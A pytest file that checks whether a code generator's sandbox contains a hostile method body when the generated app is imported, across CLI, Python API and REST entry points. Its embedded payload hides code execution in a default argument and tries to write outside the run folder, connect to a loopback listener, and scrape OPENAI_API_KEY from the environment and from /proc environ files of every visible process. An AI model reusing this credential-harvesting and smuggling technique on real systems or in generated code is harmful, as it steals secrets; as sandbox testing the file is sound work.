"""A model file's code runs only in the sandbox: a hostile method body meets Phase 1's app import.

A method body is pasted by BESSER into the generated ORM's class body, so it executes when the
app is imported (Phase 1's check, later the app host). The payload here is a *valid* method (a
default argument that runs code at definition time), so name and syntax checks let it through
and only confinement can hold. At import it tries to:

(a) write a file into a planted folder outside the run, into the run folder and into ``/tmp``;
(b) connect to a loopback listener the test opens;
(c) read a planted host secret file, and ``/proc/<pid>/environ`` of its parents and of every
    process it can see, looking for the host's ``OPENAI_API_KEY``;
(d) read ``OPENAI_API_KEY`` from its own environment (the host process has a fake one).

Whatever it got, it raises with it, so a leak would travel into the finding, the events and the
printed output. Each entry point runs as a real host process started with the fake key in its
environment (so ``/proc/<host>/environ`` really holds it): the CLI (``generate MODEL --out``,
Phase 1 only), the Python API (``run_phase1`` and the pipeline's ``generate``, stopped after
Phase 1), and REST (``POST <base>/besser-agent/runs`` with ``model_json`` on a real
``jupyter server``). Asserted every time: the payload ran (its marker is in the finding), the
listener got no connection, the planted folder is unchanged byte for byte, nothing landed in
``/tmp``, and neither secret appears in any output or in any file under the run folder.
"""

from __future__ import annotations

import contextlib
import json
import os
import secrets
import socket
import subprocess
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path

import httpx
import pytest
from file_tool_helpers import tree_state
from sandbox_fixtures import free_port, tier_param

ROOT = Path(__file__).resolve().parents[2]
MARKER = "BESSER-PAYLOAD-RAN"
HOST_SECRET = "HOST-SECRET-9d41a7c3e0"
PAYLOAD = r'''
import os, socket
got = []
def note(label, fn):
    try:
        got.append(label + "=" + str(fn()))
    except BaseException as exc:
        got.append(label + "!" + type(exc).__name__)
def write_outside():
    with open(OUTSIDE + "/escaped.txt", "w") as handle:
        handle.write("escaped")
    return "wrote"
def connect():
    conn = socket.create_connection(("127.0.0.1", PORT), timeout=3)
    conn.sendall(b"exfiltrated")
    conn.close()
    return "connected"
def environs():
    pids, pid = [], os.getpid()
    while pid > 1 and len(pids) < 32:
        with open("/proc/%d/stat" % pid) as handle:
            pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        pids.append(pid)
    pids += [int(p) for p in os.listdir("/proc") if p.isdigit()]
    found = []
    for pid in pids:
        try:
            with open("/proc/%d/environ" % pid, "rb") as handle:
                found += [v.decode() for v in handle.read().split(b"\0") if v.startswith(b"OPENAI_API_KEY=")]
        except OSError:
            pass
    return ";".join(found) or "none"
def drop():
    for target in (RUN_DIR + "/leak.txt", TMP_LEAK):
        try:
            with open(target, "w") as handle:
                handle.write(" ".join(got))
        except OSError:
            pass
    return "tried"
note("write", write_outside)
note("net", connect)
note("file", lambda: open(SECRET_FILE).read().strip())
note("env", lambda: os.environ.get("OPENAI_API_KEY", "absent"))
note("proc", environs)
note("drop", drop)
raise RuntimeError(MARKER + " " + " ".join(got).replace("\n", " "))
'''


@dataclass
class Attack:
    tmp: Path
    outside: Path
    run_dir: Path
    tmp_leak: Path
    key: str
    listener: socket.socket
    before: dict = field(default_factory=dict)

    def env(self, policy: str, **extra: str) -> dict[str, str]:
        env = {k: v for k, v in os.environ.items() if not k.startswith(("BESSER_", "JUPYTER", "OPENAI_", "ANTHROPIC_"))}
        env.update({"PYTHONPATH": str(ROOT), "OPENAI_API_KEY": self.key, "BESSER_SANDBOX": policy,
                    "BESSER_LLM_PROVIDER": "none"}, **extra)
        return env

    def method_code(self) -> str:
        source = PAYLOAD.replace("OUTSIDE", repr(str(self.outside))).replace("RUN_DIR", repr(str(self.run_dir)))
        source = source.replace("TMP_LEAK", repr(str(self.tmp_leak))).replace("SECRET_FILE", repr(str(self.outside / "secret.txt")))
        source = source.replace("PORT", str(self.listener.getsockname()[1])).replace("MARKER", "'BESSER-PAYLOAD' + '-RAN'")
        assert MARKER not in source  # only a run of the payload writes the marker
        return f"def is_long(self, threshold=exec({source!r}, {{}}) or 10):\n    return self.pages > threshold\n"

    def model(self):
        from kernel_ext.model import build_library_model

        model = build_library_model()
        book = next(t for t in model.types if getattr(t, "name", "") == "Book")
        next(m for m in book.methods if m.name == "is_long").code = self.method_code()
        return model

    def model_file(self, form: str) -> Path:
        from kernel_ext.model.jsonform import model_to_dict

        path = self.tmp / f"hostile.{'json' if form == 'json' else 'py'}"
        if form == "json":
            path.write_text(json.dumps(model_to_dict(self.model())))
        else:
            from besser.utilities.buml_code_builder import domain_model_to_code

            domain_model_to_code(self.model(), str(path))
        assert self.key not in path.read_text() and HOST_SECRET not in path.read_text()
        return path

    def connected(self) -> bool:
        self.listener.setblocking(False)
        try:
            conn, _ = self.listener.accept()
        except BlockingIOError:
            return False
        conn.close()
        return True


@pytest.fixture
def attack(tmp_path: Path):
    outside = tmp_path / "outside"
    (outside / "folder").mkdir(parents=True)
    (outside / "secret.txt").write_text(HOST_SECRET + "\n")
    (outside / "folder" / "keep.py").write_text("VALUE = 1\n")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    found = Attack(tmp_path, outside, tmp_path / "run", Path(f"/tmp/besser-leak-{secrets.token_hex(6)}"),
                   "sk-proj-" + secrets.token_hex(24), listener)
    found.before = tree_state(outside)
    yield found
    listener.close()
    found.tmp_leak.unlink(missing_ok=True)


def _run(argv: list[str], env: dict[str, str], timeout: float = 600) -> str:
    done = subprocess.run(argv, check=False, env=env, capture_output=True, text=True, timeout=timeout, cwd=ROOT)
    return f"exit {done.returncode}\n{done.stdout}\n{done.stderr}"


# -- the entry points ----------------------------------------------------------------------------

def via_cli(attack: Attack, form: str, env: dict[str, str]) -> str:
    return _run([sys.executable, "-m", "kernel_ext", "generate", str(attack.model_file(form)), "--out", str(attack.run_dir),
                 "--approve", "edits", "--json"], env)  # the flag keeps the model's method bodies (no card here)


API_PHASE1 = """
import json, sys
from kernel_ext.generation import run_phase1
print(json.dumps(run_phase1(sys.argv[1], sys.argv[2], "fastapi_backend", import_app=True).to_dict()))
"""

# The pipeline's Python API, stopped once Phase 1 has reported (what follows is Phase 3's app host).
API_GENERATE = """
import asyncio, sys
from kernel_ext.pipeline.generation import generate

async def main():
    run = generate(sys.argv[1], "A FastAPI backend", run_dir=sys.argv[2], provider="none", target="fastapi_backend",
                   approve="all")  # the method-body card approved: the body reaches the generated code
    for _ in range(6000):
        if any(e.type == "phase" and e.phase == "generate" and e.status != "started" for e in run.events.events):
            break
        await asyncio.sleep(0.05)
    run.cancel()
    await run.wait()

asyncio.run(main())
"""


def via_api_phase1(attack: Attack, form: str, env: dict[str, str]) -> str:
    return _run([sys.executable, "-c", API_PHASE1, str(attack.model_file(form)), str(attack.run_dir)], env)


def via_api_generate(attack: Attack, form: str, env: dict[str, str]) -> str:
    return _run([sys.executable, "-c", API_GENERATE, str(attack.model_file(form)), str(attack.run_dir)], env)


def via_rest(attack: Attack, form: str, env: dict[str, str], **body_fields: str) -> str:
    """A real ``jupyter server`` (the extension enabled, runs under ``run_dir``) started with the key.

    ``body_fields`` replace fields of the ``POST runs`` body (``test_sec_generator_code.py``: ``target="sql"``)."""
    config, root = attack.tmp / "jupyter-config", attack.tmp / "server-root"
    config.mkdir()
    root.mkdir()
    (config / "jupyter_server_config.json").write_text(json.dumps({
        "ServerApp": {"jpserver_extensions": {"kernel_ext": True}},
        "BesserAgentApp": {"runs_dir": str(attack.run_dir)}}))
    token, port = secrets.token_hex(16), free_port()
    env = {**env, "JUPYTER_CONFIG_DIR": str(config), "JUPYTER_DATA_DIR": str(attack.tmp / "jupyter-data"),
           "JUPYTER_RUNTIME_DIR": str(attack.tmp / "jupyter-runtime")}
    argv = [str(Path(sys.executable).with_name("jupyter")), "server", "--no-browser", "--ServerApp.ip=127.0.0.1",
            f"--ServerApp.port={port}", "--ServerApp.port_retries=0", f"--IdentityProvider.token={token}",
            f"--ServerApp.root_dir={root}", *(["--allow-root"] if os.getuid() == 0 else [])]
    log = attack.tmp / "server.log"
    with open(log, "wb") as out:
        process = subprocess.Popen(argv, env=env, cwd=root, stdout=out, stderr=subprocess.STDOUT, start_new_session=True)
    api, headers = f"http://127.0.0.1:{port}/besser-agent", {"Authorization": f"token {token}"}
    replies = []
    try:
        with httpx.Client(headers=headers, timeout=30) as client:
            _wait_for(lambda: _answers(client, f"{api}/config"), 90, lambda: process.poll() is not None)
            body = {"kind": "generate", "request": "A FastAPI backend", "provider": "none", "target": "fastapi_backend",
                    "approve": "all", "model_json": json.loads(attack.model_file("json").read_text()), **body_fields}
            started = client.post(f"{api}/runs", json=body)
            assert started.status_code == 201, started.text
            run_id = started.json()["run"]["id"]
            events = attack.run_dir / run_id / "events.jsonl"
            _wait_for(lambda: _phase1_reported(events), 600, lambda: process.poll() is not None)
            replies.append(client.post(f"{api}/runs/{run_id}/cancel").text)
            _wait_for(lambda: client.get(f"{api}/runs/{run_id}").json()["run"]["status"] != "running", 60)
            replies.append(client.get(f"{api}/runs/{run_id}").text)
    finally:
        process.terminate()
        try:
            process.wait(30)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait(10)
    return "\n".join(replies) + "\n" + log.read_text(errors="replace")


def _answers(client: httpx.Client, url: str) -> bool:
    with contextlib.suppress(httpx.HTTPError):
        return client.get(url, timeout=2).status_code == 200
    return False


def _phase1_reported(events: Path) -> bool:
    if not events.is_file():
        return False
    lines = [json.loads(line) for line in events.read_text().splitlines() if line.strip()]
    return any(e.get("type") == "phase" and e.get("phase") == "generate" and e.get("status") != "started" for e in lines) or any(
        e.get("type") == "done" for e in lines)


def _wait_for(predicate, timeout: float, gave_up=lambda: False) -> None:
    deadline = time.monotonic() + timeout
    while not predicate():
        assert not gave_up(), "the server exited"
        assert time.monotonic() < deadline, "timed out waiting"
        time.sleep(0.2)


ENTRY_POINTS = {"cli": via_cli, "api_phase1": via_api_phase1, "api_generate": via_api_generate, "rest": via_rest}
CASES = [  # (entry point, model form, tier): every entry point under both confining tiers, both model forms
    ("cli", "json", "bwrap"), ("cli", "json", "landlock"), ("cli", "python", "bwrap"),
    ("api_phase1", "json", "bwrap"), ("api_phase1", "python", "landlock"),
    ("api_generate", "json", "bwrap"), ("api_generate", "json", "landlock"),
    ("rest", "json", "bwrap"), ("rest", "json", "landlock"),
]


def run_folder_text(run_dir: Path) -> str:
    return "\n".join(p.read_bytes().decode("utf-8", "replace") for p in sorted(run_dir.rglob("*")) if p.is_file() and not p.is_symlink())


def assert_contained(attack: Attack, output: str, *, ran: bool) -> None:
    everything = output + "\n" + run_folder_text(attack.run_dir)
    assert (MARKER in everything) is ran, output[-3000:]
    assert not attack.connected(), "the payload reached the loopback listener"
    assert tree_state(attack.outside) == attack.before, "the planted folder outside the run changed"
    assert not attack.tmp_leak.exists(), "the payload wrote into the host's /tmp"
    assert not (attack.run_dir / "leak.txt").exists()
    for secret in (attack.key, HOST_SECRET):
        assert secret not in everything, f"a secret reached the outputs or the run folder: {secret[:8]}..."


@pytest.mark.slow
@pytest.mark.parametrize("entry,form,tier", [pytest.param(e, f, *tier_param(t).values, marks=tier_param(t).marks,
                                                          id=f"{e}-{f}-{t}") for e, f, t in CASES])
def test_a_hostile_method_body_is_contained(attack, entry, form, tier):
    output = ENTRY_POINTS[entry](attack, form, attack.env(tier))
    assert_contained(attack, output, ran=True)
    if entry in ("cli", "api_phase1"):
        result = json.loads(output[output.index("{"):output.rindex("}") + 1])
        assert result["app_import"] == "failed" and result["app_import_tier"] == tier


def test_without_a_sandbox_the_app_import_is_refused_not_run(attack):
    """The operator asked for bubblewrap and it is not there: the check is skipped with a named finding."""
    env = attack.env("bwrap", PATH=str(Path(sys.executable).parent))  # no bwrap on PATH: the tier cannot start
    output = via_cli(attack, "json", env)
    assert_contained(attack, output, ran=False)
    result = json.loads(output[output.index("{"):output.rindex("}") + 1])
    assert result["app_import"].startswith("skipped: ") and result["app_import_tier"] == ""
    assert any("app import not checked" in f["message"] and "never runs outside the sandbox" in f["message"]
               for f in result["findings"])


def test_the_operators_off_tier_runs_unconfined_and_says_so(tmp_path):
    """``off`` is the operator's explicit choice: the check runs, and the result shows it was unconfined."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("BESSER_")}
    env.update({"PYTHONPATH": str(ROOT), "BESSER_SANDBOX": "off"})
    output = _run([sys.executable, "-m", "kernel_ext", "generate", "example:library", "--out", str(tmp_path / "run"), "--json"], env)
    result = json.loads(output[output.index("{"):output.rindex("}") + 1])
    assert result["app_import"] == "ok" and result["app_import_tier"] == "off"
    assert any("ran unconfined" in f["message"] and f["severity"] == "warning" for f in result["findings"])
